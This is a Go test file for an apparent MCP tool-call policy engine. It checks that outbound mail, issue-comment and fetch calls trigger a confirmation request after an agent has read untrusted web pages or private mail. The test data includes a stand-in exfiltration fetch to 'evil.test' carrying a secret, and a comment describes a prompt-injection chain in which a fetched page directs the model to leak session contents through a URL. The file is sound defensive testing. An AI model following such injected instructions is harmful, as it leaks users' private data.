package main

import (
	"strings"
	"testing"

	"github.com/mcpwarden/mcpwarden/rules"
)

// TestSessionAwareExampleBreaksTheChain: in the example policy every step
// of the injection chain is allowed on its own, and the step out after
// untrusted or private content is asked.
func TestSessionAwareExampleBreaksTheChain(t *testing.T) {
	t.Parallel()
	p := loadExamplePolicy(t, "session-aware.yaml")
	page := rules.Arming{Label: "untrusted_input", Tool: "mcp:fetch:fetch"}
	inbox := rules.Arming{Label: "private", Tool: "mcp:mail:read_message"}
	tests := []struct {
		name  string
		tool  string
		args  map[string]any
		armed []rules.Arming
		want  rules.Decision
	}{
		{"a fetch in a fresh session", "mcp:fetch:fetch", map[string]any{"url": "https://news.test/"}, nil, rules.Allow},
		{"a mail in a fresh session", "mcp:mail:send_message", nil, nil, rules.Allow},
		{"a mail after a fetched page", "mcp:mail:send_message", nil, []rules.Arming{page}, rules.Ask},
		{"an issue comment after a fetched page", "mcp:github:add_issue_comment", nil, []rules.Arming{page}, rules.Ask},
		{"a read of the inbox after a fetched page", "mcp:mail:read_message", nil, []rules.Arming{page}, rules.Allow},
		{"a fetch after reading the inbox", "mcp:fetch:fetch", map[string]any{"url": "https://evil.test/?q=secret"}, []rules.Arming{inbox}, rules.Ask},
		// The page may tell the model to fetch a URL carrying what the
		// session has seen (security round 3, attack 6): a fetch is a way
		// out too.
		{"a second fetch after a fetched page", "mcp:fetch:fetch", map[string]any{"url": "https://news.test/2"}, []rules.Arming{page}, rules.Ask},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			server, tool, _ := strings.Cut(strings.TrimPrefix(tt.tool, "mcp:"), ":")
			c := rules.Call{Server: server, Tool: tool, Arguments: tt.args, Armed: tt.armed}
			if got := p.Decide(c); got.Decision != tt.want {
				t.Errorf("Decide(%s) = %v by %q (%s), want %v", tt.tool, got.Decision, got.Rule, got.Reason, tt.want)
			}
		})
	}
	if got := p.Labels(rules.Call{Server: "mail", Tool: "read_message"}); len(got) != 2 {
		t.Errorf("a mail read carries %q, want private and untrusted_input", got)
	}
}
